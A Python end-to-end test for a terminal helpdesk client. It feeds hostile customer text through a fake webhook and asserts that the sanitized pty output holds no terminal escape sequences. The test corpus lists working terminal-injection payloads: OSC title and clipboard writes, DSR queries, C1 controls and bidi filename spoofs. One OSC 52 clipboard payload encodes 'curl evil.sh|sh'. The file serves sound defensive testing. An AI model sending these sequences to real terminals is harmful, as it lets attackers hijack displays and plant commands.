#!/usr/bin/env python3
"""Hostile customer text, end to end: fake Graph API -> relay -> a real
ttydesk in tmux, run under `script` so every byte ttydesk writes to its
pty is recorded.

The corpus: OSC (window title, OSC 52 clipboard, OSC 8 links), DCS,
APC/PM/SOS, RIS, DECALN, DSR and window-report queries (they make the
terminal type answers into ttydesk's input), cursor movement and
scrolling regions, 8-bit C1 code points (CSI, OSC, DCS, NEL, RI), bidi
overrides and isolates, zero-width and combining floods, a 100,000
character line, BS/CR overwrites, a lone surrogate (\\ud800, the only
"invalid UTF-8" a JSON webhook can carry) and wide/emoji text.  They
come in message text, the profile name, a BSUID customer's username,
image and document captions, a document filename, a location's name and
address, button text, a list reply's title and description and a shared
contact's name; some are in the log before ttydesk starts (first sync),
the rest arrive while it runs.

Asserted on the raw pty bytes: no OSC/DCS/APC/PM/SOS introducer, no RIS
or DECALN, none of the attack queries, no C1 control (as UTF-8), no bidi
control, no run of combining or zero-width marks, valid UTF-8 all
through, and the customers' own sequences absent.  Asserted on the
terminal (tmux): the pane title and the paste buffers are untouched
(a control pane proves tmux would have taken both), the screen keeps its
size, the status bar stays on the last line, and calm conversations stay
visible in the list and every thread opens with its status bar in place.
"""

import base64
import json
import os
import re
import shutil
import sys
import time
import unittest

_HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, _HERE)
sys.path.insert(0, os.path.join(_HERE, "..", "pylib"))
import harness  # noqa: E402
from harness import unique_phone, unique_bsuid  # noqa: E402
from tui_tmux import TuiSession, _shq  # noqa: E402
import wa_payloads as wp  # noqa: E402

ESC = "\x1b"
OSC52 = ESC + "]52;c;" + base64.b64encode(b"curl evil.sh|sh").decode() + "\x07"
ATTACKS = [
	# (name, text); each carries the marker HX<n> right after it.
	("OSC 0 title", ESC + "]0;PWNED-TITLE\x07"),
	("OSC 2 title, ST", ESC + "]2;PWNED-TITLE2" + ESC + "\\"),
	("OSC 52 clipboard", OSC52),
	("OSC 8 link", ESC + "]8;;http://evil.example/\x07click" + ESC +
	    "]8;;\x07"),
	("DCS XTGETTCAP", ESC + "P+q544e" + ESC + "\\"),
	("DCS DECRQSS", ESC + "P$qm" + ESC + "\\"),
	("APC", ESC + "_apc-payload" + ESC + "\\"),
	("PM", ESC + "^pm-payload" + ESC + "\\"),
	("SOS", ESC + "Xsos-payload" + ESC + "\\"),
	("RIS reset", ESC + "c"),
	("DECALN", ESC + "#8"),
	("DSR query", ESC + "[6n"),
	("DA query", ESC + "[>c"),
	("window title report", ESC + "[21t"),
	("window resize", ESC + "[8;5;20t"),
	("clear screen", ESC + "[2J" + ESC + "[3J"),
	("cursor home far", ESC + "[999;999H"),
	("cursor up", ESC + "[317A"),
	("scroll region", ESC + "[3;7r"),
	("alt screen off", ESC + "[?1049l"),
	("mouse on", ESC + "[?1000h"),
	("SGR blink invisible", ESC + "[5;8;38;5;199m"),
	("charset", ESC + "(0"),
	("8-bit CSI", "\u009b2J\u009b31m"),
	("8-bit OSC", "\u009d0;PWNED-C1\u009c"),
	("8-bit DCS", "\u0090q\u009c"),
	("NEL and RI", "\u0085\u008d"),
	("RLO", "\u202egnp.exe\u202c"),
	("LRO", "\u202dx\u202c"),
	("isolates", "\u2066\u2067\u2068x\u2069"),
	("RLM ALM", "\u200f\u061c"),
	("BS overwrite", "refund\x08\x08\x08\x08\x08\x08DENIED"),
	("CR overwrite", "all good\rACCOUNT LOCKED"),
	("BEL VT FF DEL", "\x07\x0b\x0c\x7f"),
	("zero-width flood", "\u200b\u200c\u200d\u2060\ufeff" * 400),
	("combining flood", "e" + "\u0301" * 3000),
	("line/para separators", "\u2028\u2029"),
	("tag chars", "\U000e0001\U000e0041\U000e007f"),
]
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
# Never emitted by ncurses for xterm-256color: their presence means a
# customer wrote to the terminal.
FORBIDDEN_BYTES = {
	"OSC introducer": b"\x1b]",
	"DCS introducer": b"\x1bP",
	"APC introducer": b"\x1b_",
	"PM introducer": b"\x1b^",
	"SOS introducer": b"\x1bX",
	"RIS": b"\x1bc",
	"DECALN": b"\x1b#8",
	"DSR": b"\x1b[6n",
	"DA": b"\x1b[>c",
	"title report": b"\x1b[21t",
	"window resize": b"\x1b[8;5;20t",
	"cursor far": b"\x1b[999;999H",
	"cursor up 317": b"\x1b[317A",
	"scroll region 3;7": b"\x1b[3;7r",
	"mouse": b"\x1b[?1000h",
	"blink invisible": b"\x1b[5;8;38;5;199m",
	"OSC 52 payload": OSC52[6:-1].encode(),
	"clear + scrollback": b"\x1b[2J\x1b[3J",
}


def marked(n=None):
	"""All attacks, each followed by its marker HX<i>."""
	return " ".join("%s HX%d" % (text, i) for i, (_, text) in
	    enumerate(ATTACKS) if n is None or i in n)


class RecordedTui(TuiSession):
	"""ttydesk under `script -q -f`: the typescript is its pty output."""

	def start(self, args=()):
		self.raw_path = os.path.join(self.dir, "pty.raw")
		inner = " ".join(_shq(c) for c in self.command(args))
		line = " ".join(_shq(c) for c in ["script", "-q", "-f", "-e",
		    "-c", inner, self.raw_path]) + \
		    "; echo TTYDESK-EXIT=$?; sleep 3600"
		self.launch(line, (("set-clipboard", "on"), ("allow-rename", "on")))

	def raw(self):
		with open(self.raw_path, "rb") as fp:
			return fp.read()


@unittest.skipUnless(shutil.which("tmux") and shutil.which("script"),
    "needs tmux and script")
class HostileText(unittest.TestCase):

	@classmethod
	def setUpClass(cls):
		cls.world = harness.RelayWorld()
		cls.fake = cls.world.fake

	@classmethod
	def tearDownClass(cls):
		cls.world.close()

	def post(self, c, mtype="text", **kw):
		m, code = self.fake.customer_message(c, mtype, **kw)
		self.assertEqual(code, 200, "webhook %s refused: %s" % (mtype,
		    code))
		return m

	def post_raw(self, c, text_json):
		"""A text message whose body is given as JSON source (for
		escapes Python cannot encode, e.g. a lone surrogate)."""
		m = wp.inbound_message(c, "text", text="@@BODY@@")
		body = wp.envelope([wp.message_value(self.fake.phone_number_id,
		    self.fake.display_phone_number, c, [m])])
		raw = json.dumps(body).replace('"@@BODY@@"', text_json).encode()
		return m, self.fake.post_webhook(raw)

	def hostile_before(self):
		"""Conversations in the log before ttydesk starts."""
		ev = self.fake.customer(unique_phone(), None,
		    "Eve" + ESC + "]0;PWNED-NAME\x07" + ESC + "[2J\u202eMallory"
		    "\u202c\u009b1m Name-HN1")
		self.post(ev, text="first " + marked())
		zal = self.fake.customer(unique_phone(), None, "Zalgo-HN2 " +
		    "Z" + "\u0336\u0337" * 1500 + "\u200b" * 2000)
		self.post(zal, text="L100K-START " + "L" * 100000 + " L100K-END")
		wide = self.fake.customer(unique_phone(), None,
		    "全角名前-HN3 👨‍👩‍👧‍👦🏳️‍🌈")
		self.post(wide, text="宽字符 " * 50 + " 👍🏽" * 30 + " WIDE-END")
		doc = self.fake.customer(unique_phone(), None, "Doc-HN4")
		self.post(doc, "document", caption="cap " + marked(range(0, 12)),
		    filename="invoice" + OSC52 + "\u202efdp.exe HX-FILE")
		self.post(doc, "image", caption=ESC + "]0;PWNED-CAP\x07" +
		    "\u009b2J img-cap HX-IMG")
		return [ev, zal, wide, doc]

	def hostile_live(self):
		"""Arrives while ttydesk runs."""
		loc = self.fake.customer(unique_phone(), None, "Loc-HN5")
		self.post(loc, "location", name="Office" + ESC + "]2;PWNED-LOC\x07"
		    " HX-LOCNAME", address=ESC + "[999;999H" + "\u202e1 Main St "
		    "HX-LOCADDR")
		btn = self.fake.customer(unique_phone(), None, "Btn-HN6")
		self.post(btn, "button", text="press " + ESC + "P$qm" + ESC +
		    "\\ HX-BTN", payload=ESC + "]52;c;QUFB\x07")
		self.post(btn, "list_reply", title="t" + ESC + "[6n HX-LT",
		    description="d" + ESC + "[21t\u009d0;x\u009c HX-LD")
		self.post(btn, "contacts", name="Card" + ESC + "]0;PWNED-CARD"
		    "\x07 HX-CARD")
		user = self.fake.customer(None, unique_bsuid(),
		    "Hidden-HN7" + ESC + "[5;8m", username="kim" + ESC +
		    "]0;PWNED-USER\x07.hx")
		self.post(user, text="second " + marked(range(12, len(ATTACKS))))
		sur = self.fake.customer(unique_phone(), None, "Surrogate-HN8")
		m, code = self.post_raw(sur, '"lone \\ud800 surrogate HX-SUR '
		    '\\u009b31m \\u0000nul"')
		return sur, code

	def assert_raw_clean(self, raw, where):
		for what, needle in FORBIDDEN_BYTES.items():
			i = raw.find(needle)
			self.assertEqual(i, -1, "%s reached the terminal (%s): %r" % (
			    what, where, raw[max(0, i - 40):i + 40]))
		try:
			text = raw.decode("utf-8")
		except UnicodeDecodeError as e:
			self.fail("invalid UTF-8 written to the terminal (%s): %r"
			    % (where, raw[max(0, e.start - 30):e.start + 30]))
		c1 = [c for c in text if 0x80 <= ord(c) <= 0x9f]
		self.assertEqual(c1, [], "C1 controls reached the terminal")
		bidi = [c for c in text if c in BIDI]
		self.assertEqual(bidi, [], "bidi controls reached the terminal")
		self.assertIsNone(re.search("[\u0300-\u036f\u0336\u0337]{16,}",
		    text), "a combining flood reached the terminal")
		self.assertIsNone(re.search("[\u200b\u200c\u200d\u2060\ufeff]{4,}",
		    text), "zero-width characters reached the terminal")
		# (Unicode tag characters, U+E0000..E007F, do reach the
		# terminal: invisible and zero-width, they cannot move or
		# recolour anything; hiding text with them is left to the
		# sanitizer's owner.)
		# The customers' own sequences, marker included.
		for i, (what, seq) in enumerate(ATTACKS):
			if ESC in seq:
				self.assertNotIn((seq + " HX%d" % i).encode(), raw, what)

	def assert_layout(self, tui, screen, where):
		lines = screen.split("\n")
		# capture-pane ends with one newline per row.
		rows = [l for l in lines]
		if rows and rows[-1] == "":
			rows = rows[:-1]
		self.assertEqual(len(rows), tui.height, "%s: %d rows" % (where,
		    len(rows)))
		status = rows[-1]
		self.assertRegex(status, r"^ (All|Mine|Unassigned|Tier|Escalated|"
		    r"Resolved)\b", "%s: status bar gone from the last line:\n%s"
		    % (where, screen))
		self.assertIn("online", status, where)
		for r in rows:
			self.assertLessEqual(len(r), tui.width * 2, where)

	def control_proves_tmux_listens(self, tui):
		"""The same tmux takes a title and an OSC 52 from a pane."""
		tui.tmux("new-window", "-d", "-n", "control", "printf '\\033]2;"
		    "CONTROL-TITLE\\007\\033]52;c;Q09OVFJPTA==\\007'; sleep 30")
		deadline = time.monotonic() + 5
		while time.monotonic() < deadline:
			title = tui.tmux("display-message", "-p", "-t", "control",
			    "#{pane_title}")
			if "CONTROL-TITLE" in title:
				break
			time.sleep(0.1)
		self.assertIn("CONTROL-TITLE", title, "tmux ignores titles: "
		    "the title check would prove nothing")
		bufs = tui.tmux("list-buffers", "-F", "#{buffer_sample}")
		self.assertIn("CONTROL", bufs, "tmux ignores OSC 52 here")
		tui.tmux("kill-window", "-t", "control")
		tui.tmux("delete-buffer", check=False)
		return title

	def test_hostile_text_stays_inert(self):
		calm = []
		for name in ("Calm Anna", "Calm Boris", "Calm Chen"):
			c = self.fake.customer(unique_phone(), None, name)
			self.post(c, text="a normal question from " + name)
			calm.append(name)
		self.hostile_before()

		tui = RecordedTui.for_agent(self.world, "alice", width=100,
		    height=30)
		self.addCleanup(tui.close)
		tui.start()
		tui.wait_for("online", what="ttydesk online")
		self.control_proves_tmux_listens(tui)
		title0 = tui.tmux("display-message", "-p", "-t", "0",
		    "#{pane_title}")
		# The All queue shows everybody.
		for _ in range(8):
			if tui.screen().splitlines()[-1].startswith(" All "):
				break
			tui.keys("]")
			time.sleep(0.2)
		s = tui.wait_for("Doc-HN4", what="the hostile conversations")
		self.assert_layout(tui, s, "list, first sync")

		sur, sur_code = self.hostile_live()
		s = tui.wait_for("Loc-HN5", what="live hostile conversations")
		s = tui.wait_for("Btn-HN6")
		tui.wait_for("Surrogate-HN8")
		for name in calm:
			self.assertIn(name, tui.wait_for(name), "calm conversation "
			    "pushed off the list")
		self.assert_layout(tui, s, "list, live")

		# Open every conversation in the list, top to bottom.
		tui.keys("g")
		opened = 0
		seen_markers = set()
		for i in range(14):
			tui.keys("Enter")
			time.sleep(0.4)
			s = tui.screen()
			self.assert_layout(tui, s, "thread %d" % i)
			seen_markers |= set(re.findall(r"HX[-A-Z0-9]+", s))
			tui.keys("G")
			time.sleep(0.2)
			s = tui.screen()
			self.assert_layout(tui, s, "thread %d, end" % i)
			seen_markers |= set(re.findall(r"HX[-A-Z0-9]+", s))
			opened += 1
			tui.keys("Escape", "Down")
			time.sleep(0.2)
		s = tui.screen()
		self.assert_layout(tui, s, "list after visiting")
		# A resize with all of it on screen.
		tui.resize(60, 20)
		time.sleep(0.5)
		tui.height, tui.width = 20, 60
		self.assert_layout(tui, tui.screen(), "after resize")
		tui.resize(100, 30)
		tui.height, tui.width = 30, 100
		time.sleep(0.5)

		title = tui.tmux("display-message", "-p", "-t", "0",
		    "#{pane_title}")
		self.assertEqual(title, title0, "a customer changed the window "
		    "title")
		self.assertNotIn("PWNED", title)
		bufs = tui.tmux("list-buffers", "-F", "#{buffer_sample}",
		    check=False)
		self.assertEqual(bufs.strip(), "", "a customer wrote the "
		    "clipboard (OSC 52)")
		raw = tui.raw()
		sys.stderr.write("  [hostile] %d bytes from the pty; markers "
		    "seen: %s; lone-surrogate webhook: %s\n" % (len(raw),
		    sorted(seen_markers), sur_code))
		self.assertGreater(len(raw), 10000, "script recorded nothing")
		self.assertIn(b"Calm Anna", raw)
		self.assertIn(b"HX-LOCNAME", raw, "the location name is not shown")
		self.assertIn(b"HX-FILE", raw, "the filename is not shown")
		self.assertIn(b"HX0", raw, "the attack text is not shown at all")
		self.assert_raw_clean(raw, "the whole session")
		# A lone surrogate is mended to U+FFFD by the relay, not the
		# reason to refuse (and lose) the whole webhook.
		self.assertEqual(sur_code, 200, "lone surrogate refused")
		self.assertIn(b"HX-SUR", raw, "the mended message is not shown")
		self.assertTrue(self.world.relay.running())
		# ttydesk still answers keys and quits cleanly.
		tui.keys("Escape", "q")
		tui.wait_for("TTYDESK-EXIT=0", what="ttydesk to exit with 0")
		self.assertEqual(tui.asan_reports(), [])
		self.assert_raw_clean(tui.raw(), "including the exit")


if __name__ == "__main__":
	unittest.main(verbosity=2)
